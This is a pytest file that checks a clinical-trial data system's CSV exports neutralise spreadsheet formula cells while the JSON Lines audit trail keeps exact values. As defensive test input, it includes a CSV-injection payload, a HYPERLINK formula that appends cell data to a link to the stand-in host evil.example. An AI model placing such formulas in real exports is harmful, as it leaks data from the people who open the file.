"""CSV cells a spreadsheet would run are neutralised in every CSV export, the bundle's
included, while the JSON Lines beside them keep the exact values (issue 14, B-2)."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterator
from datetime import date, timedelta
from typing import Any

import orjson
import pytest

from application.runtime import Runtime
from domain.csv_cells import neutralised, neutralised_row, restored
from domain.envelope import Reason
from domain.studies import nct04397107
from projections.deviations import to_csv as deviations_csv
from tests.support import (
    DATA_MANAGER,
    T0,
    api_client,
    enroll,
    envelope,
    register,
    simulated_clock,
)

STUDY = nct04397107.STUDY_ID
FORMULA_TERM = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
FORMULA_REASON = "+SUM(1,2) re-read from the chart"
AE = {"term": FORMULA_TERM, "category": "fever", "grade": 1, "serious": False,
      "relationship": "possible", "action_taken": "none", "outcome": "recovering"}


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+2", "'=1+2"), ("+SUM(A1)", "'+SUM(A1)"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tcmd", "'\tcmd"), ("\rcmd", "'\rcmd"), ("'quoted", "''quoted"),
    # Numbers are data, whether numbers or numeric text.
    ("-1.5", "-1.5"), ("+2", "+2"), ("-3e-5", "-3e-5"), (-1.5, -1.5), (0, 0),
    ("Fever", "Fever"), ("", ""), (None, None), ("a=b", "a=b")])
def test_a_cell_is_neutralised_only_when_a_spreadsheet_would_run_it(value: Any,
                                                                    cell: Any) -> None:
    assert neutralised(value) == cell
    # The row form (the exports' fast path) gives each cell the same, beside other cells.
    assert neutralised_row(["ok", value, 7]) == ["ok", cell, 7]
    if isinstance(value, str):
        assert restored(neutralised(value)) == value


def test_the_deviations_csv_neutralises_a_formula() -> None:
    rows = list(csv.reader(io.StringIO(deviations_csv([{
        "subject": "001", "site": "JLU1", "deviation_id": "DV1", "category": "visit_window",
        "severity": "minor", "occurred_on": "2021-01-10", "description": "@SUM(A1)"}]))))
    assert "'@SUM(A1)" in rows[1]


@pytest.fixture
def exported(runtime: Runtime) -> Iterator[Runtime]:
    """Child 001 with an AE whose term is a formula, a C3 corrected with a formula-looking
    reason, and a deviation whose description is one."""
    clock = simulated_clock()
    app = runtime.study(STUDY, clock=clock)
    register(app)
    enroll(app, "001")
    clock.set(T0 + timedelta(days=1))
    app.on_subject("001", lambda s, t: s.record_lab_result("LB1", T0, "C3", 0.8, "g/L",
                                                           envelope(), t))
    app.on_subject("001", lambda s, t: s.report_adverse_event("AE1", T0, AE, envelope(), t))
    app.on_subject("001", lambda s, t: s.record_deviation(
        "DV1", "other", "-1+1 visit moved", date(2021, 1, 10), "minor",
        envelope(DATA_MANAGER), t))
    clock.set(T0 + timedelta(days=2))
    reason = envelope(DATA_MANAGER, Reason("transcription_error", FORMULA_REASON))
    app.on_subject("001", lambda s, t: s.correct("LB1", "value", 0.6, reason, t))
    app.close()
    yield runtime


def _csv(archive: zipfile.ZipFile, name: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(archive.read(name).decode())))


def _check(archive: zipfile.ZipFile, prefix: str) -> None:
    ae = _csv(archive, f"{prefix}AE.csv")
    assert [row["AETERM"] for row in ae] == ["'" + FORMULA_TERM]
    assert [row["LBORRES"] for row in _csv(archive, f"{prefix}LB.csv")] == ["0.6"]
    assert [row["DVTERM"] for row in _csv(archive, f"{prefix}DV.csv")] == ["'-1+1 visit moved"]
    audit = _csv(archive, f"{prefix}audit_trail.csv")
    reasons = {row["reason_text"] for row in audit}
    assert "'" + FORMULA_REASON in reasons and FORMULA_REASON not in reasons
    # Every text cell of every CSV file: none starts a formula.
    for name in archive.namelist():
        if name.endswith(".csv"):
            for row in csv.reader(io.StringIO(archive.read(name).decode())):
                assert not [c for c in row if c[:1] in ("=", "+", "@", "\t", "\r")], (name, row)
    lines = [orjson.loads(line) for line in archive.read(f"{prefix}audit_trail.jsonl").splitlines()]
    assert FORMULA_REASON in {line["reason_text"] for line in lines}
    assert FORMULA_TERM in {line["new_value"] for line in lines if line["field"] == "term"}


def test_the_csv_export_neutralises_formulas_and_the_jsonl_keeps_them(
        exported: Runtime) -> None:
    exporter = api_client(exported, "data_manager")
    answer = exporter.get(f"/v1/studies/{STUDY}/exports/csv")
    assert answer.status_code == 200, answer.text
    _check(zipfile.ZipFile(io.BytesIO(answer.content)), "")


def test_the_bundle_csv_files_are_neutralised_too(exported: Runtime) -> None:
    exporter = api_client(exported, "regulator")
    answer = exporter.get(f"/v1/studies/{STUDY}/exports/bundle")
    assert answer.status_code == 200, answer.text
    _check(zipfile.ZipFile(io.BytesIO(answer.content)), "csv/")
